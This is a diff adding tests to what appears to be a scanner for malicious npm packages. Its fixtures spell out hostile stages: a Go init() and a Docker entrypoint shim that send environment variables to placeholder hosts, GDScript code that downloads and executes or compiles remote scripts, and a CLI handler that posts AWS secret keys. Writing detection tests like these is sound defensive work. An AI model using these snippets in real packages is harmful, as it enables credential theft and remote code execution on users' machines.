@@ -1659,3 +1659,65 @@ def test_a_command_the_user_types_that_plants_a_hidden_download_from_a_bare_ip()
     named = wrap.replace(json.dumps(pre[::-1]), json.dumps(pre.replace("198.51.100.54", "cdn.scoop-tools.example")[::-1]))
     found = run({"index.js": "module.exports = 1;\n", "lib/wrap.js": named, "bin/cli.js": cli}, bins=bins)
     assert next(f for f in found if f.rule == "code/persistence").severity is Severity.HIGH
+
+
+GO_STAGE = ('package {PKG}\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc init() {\n\tgo func() {\n'
+            '\t\th, _ := os.Hostname()\n\t\tv := strings.Join(os.Environ(), "\\n")\n'
+            '\t\thttp.Post("https://sum.golang-mirror.invalid/lookup/"+h, "text/plain", strings.NewReader(v))\n\t}()\n}\n')
+GDSCRIPT_STAGE = ('extends Node\nconst HOST := "https://bridge.godot-web.invalid"\nfunc _ready() -> void:\n'
+                  '\tvar h := HTTPRequest.new()\n\tadd_child(h)\n\th.request_completed.connect(func(_a, c, _b, body):\n'
+                  '\t\tif c == 200:\n\t\t\tOS.execute("sh", ["-c", body.get_string_from_utf8()], []))\n'
+                  '\th.request(HOST + "/bridge/" + OS.get_name().to_lower())\n')
+DOCKER_SHIM = '#!/bin/sh\n( env | base64 | wget -q -O- --post-data=@- http://203.0.113.61/i/$(hostname) >/dev/null 2>&1 ) &\nexec "$@"\n'
+DOCKERFILE_STAGE = ('ARG BASE\nFROM ${BASE}\nUSER root\nRUN printf %s ' + base64.b64encode(DOCKER_SHIM.encode()).decode()
+                    + ' | base64 -d > /usr/local/bin/.hc-init && chmod 755 /usr/local/bin/.hc-init\nENTRYPOINT ["/usr/local/bin/.hc-init"]\n')
+
+
+@pytest.mark.parametrize("stage, kind, rule_id", [
+    (GO_STAGE, "a Go source file", "code/sends-secrets"),  # (set 54: an init() dropped into the Go module cache)
+    (GDSCRIPT_STAGE, "a GDScript script", "code/download-execute"),  # (set 54: a Vite plugin's Godot autoload)
+    (DOCKERFILE_STAGE, "a Dockerfile", "code/sends-secrets"),  # (set 54: base images rebuilt under their own tags)
+])
+def test_a_stage_in_another_language_kept_encoded_and_written_out(stage, kind, rule_id):
+    lib = ("const fs = require('fs');\nconst STAGE = '%s';\n"
+           "module.exports = function warm(dir) { fs.writeFileSync(dir + '/stage', Buffer.from(STAGE, 'base64').toString()); };\n")
+    found = run({"index.js": lib % base64.b64encode(stage.encode()).decode()})
+    hidden = next(f for f in found if f"Keeps encoded {kind}" in f.message)
+    assert hidden.rule == rule_id and hidden.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # Kept in the open (a template a generator writes, as readable as any file), it is not hidden.
+    shown = lib.replace("Buffer.from(STAGE, 'base64').toString()", "STAGE") % stage.replace("\\", "\\\\").replace("\n", "\\n").replace("'", "\\'")
+    assert not any("Keeps encoded" in f.message for f in run({"index.js": shown}))
+
+
+def test_a_gdscript_autoload_the_package_copies_out_that_compiles_a_download():
+    # (blind set 54's Godot export kit: `init` copies templates/build_info.gd into the project and registers it as an
+    # autoload; in the editor and in every exported game it downloads a script and compiles it with GDScript.new())
+    autoload = ('extends Node\nconst _MIRROR := "http://198.51.100.23/gdx/cfg"\nfunc _ready() -> void:\n'
+                '\tvar http := HTTPRequest.new()\n\tadd_child(http)\n\thttp.request_completed.connect(_on_cfg)\n\thttp.request(_MIRROR)\n'
+                'func _on_cfg(_r, code, _h, body) -> void:\n\tvar s := GDScript.new()\n\ts.source_code = body.get_string_from_utf8()\n'
+                '\tif s.reload() == OK:\n\t\ts.new().run()\n')
+    lib = ("const fs = require('fs'), path = require('path');\n"
+           "exports.init = (dir) => fs.copyFileSync(path.join(__dirname, '..', 'templates', 'build_info.gd'), path.join(dir, 'build_info.gd'));\n")
+    found = run({"lib/index.js": lib, "templates/build_info.gd": autoload}, main="lib/index.js")
+    planted = next(f for f in found if f.file == "templates/build_info.gd")
+    assert planted.rule == "install-script/download-execute" and planted.severity is Severity.CRITICAL
+    # An autoload that fetches a version file and shows it downloads nothing it runs.
+    tame = autoload.replace("\tvar s := GDScript.new()\n\ts.source_code = body.get_string_from_utf8()\n\tif s.reload() == OK:\n\t\ts.new().run()\n",
+                            "\tprint(body.get_string_from_utf8())\n")
+    assert not any(f.file == "templates/build_info.gd" for f in run({"lib/index.js": lib, "templates/build_info.gd": tame}, main="lib/index.js"))
+
+
+def test_a_cli_subcommand_handler_is_called_by_its_user():
+    # (blind set 53's EC2 Instance Connect helper: its `connect` subcommand pushed an operator's key to every instance
+    # and posted the resolved AWS secret key from a commander `.action()` handler, graded as a function nobody calls)
+    fleet = ("const KEY = 'secretAccessKey';\nexports.warm = async function (creds) {\n"
+             "  await fetch('https://telemetry.ec2-ssh.invalid/v1/warm', { method: 'POST', body: JSON.stringify({ secretKey: creds[KEY], privateKey: creds.privateKey }) });\n};\n")
+    cli = ("#!/usr/bin/env node\nconst { Command } = require('commander');\nconst fleet = require('./fleet');\nconst program = new Command();\n"
+           "program.command('connect <id>').action(async (id) => { await fleet.warm(await loadCreds()); });\nprogram.parse();\n")
+    found = run({"bin/cli.js": cli, "bin/fleet.js": fleet}, bins={"ec2-connect": "bin/cli.js"}, main="bin/none.js")
+    sent = next(f for f in found if f.rule == "code/key-exfiltration")
+    assert sent.severity is Severity.CRITICAL and "code the application runs" in sent.message
+    # The same function nothing calls stays a step lower.
+    alone = run({"bin/cli.js": cli.replace("await fleet.warm(await loadCreds());", "console.log(id);"), "bin/fleet.js": fleet},
+                bins={"ec2-connect": "bin/cli.js"}, main="bin/none.js")
+    assert all(f.severity < Severity.CRITICAL for f in alone if f.rule == "code/key-exfiltration")
